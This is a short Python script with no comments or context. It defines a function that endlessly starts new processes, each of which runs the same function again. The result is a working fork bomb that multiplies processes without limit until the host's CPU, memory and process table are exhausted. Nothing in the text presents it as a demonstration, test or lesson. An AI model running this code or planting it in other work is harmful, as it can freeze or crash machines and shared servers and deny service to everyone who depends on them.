import multiprocessing
import os


def spread(depth):
    while True:
        p = multiprocessing.Process(target=spread, args=(depth + 1,))
        p.start()


if __name__ == "__main__":
    spread(0)
